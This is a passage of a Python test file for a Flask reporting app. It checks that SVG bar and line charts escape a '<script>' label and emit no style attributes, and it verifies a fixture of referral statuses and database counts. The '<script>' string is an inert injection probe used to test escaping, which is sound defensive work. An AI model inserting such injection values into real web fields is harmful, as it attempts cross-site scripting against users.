    bars = [tables.Bar("<script>", 0.5, "50.0%"), tables.Bar("小", None, "<5")]
    svg = str(charts.bar_chart("c1", 'T"itle', bars, percent=True))
    assert svg.startswith("<svg") and "style=" not in svg and "<script>" not in svg
    assert "&lt;script&gt;" in svg and "&lt;5" in svg and svg.count("<rect") == 1
    line = str(charts.line_chart("c2", "months", [tables.Bar("2026-03", 0.2, "20%"), tables.Bar("2026-04", None, "—")]))
    assert "<circle" in line and "style=" not in line and line.count("<circle") == 1


# --- the test's own bookkeeping ---------------------------------------------------------------------------


class history_request:
    """A request context in English, for building the tables outside a request."""

    def __enter__(self):
        from flask import current_app

        self.ctx = current_app.test_request_context("/reports", headers={"Accept-Language": "en"})
        self.ctx.__enter__()
        from flask import session

        session["lang"] = "en"
        return self

    def __exit__(self, *exc):
        return self.ctx.__exit__(*exc)


def test_fixture_is_what_the_docstring_says(history):
    statuses = {ref: r.status for ref, r in history.referrals.items()}
    assert statuses == {
        "R1": "delivered",
        "R2": "delivered",
        "R3": "delivered",
        "R4": "delivered",
        "R5": "delivered",
        "R6": "delivered",
        "R7": "refused",
        "R8": "refused",
        "R9": "accepted",
        "R10": "in_progress",
        "R11": "refused",
        "R12": "delivered",
        "R13": "refused",
        "R14": "delivered",
        "R15": "sent",
        "R16": "in_progress",
    }
    assert {r: history.referrals[r].attempt_count for r in ("R11", "R12")} == {"R11": 2, "R12": 2}
    assert db.session.scalar(select(func.count()).select_from(Need).where(Need.status != "open")) == 10
    assert db.session.scalar(select(func.count()).select_from(Client)) == 3
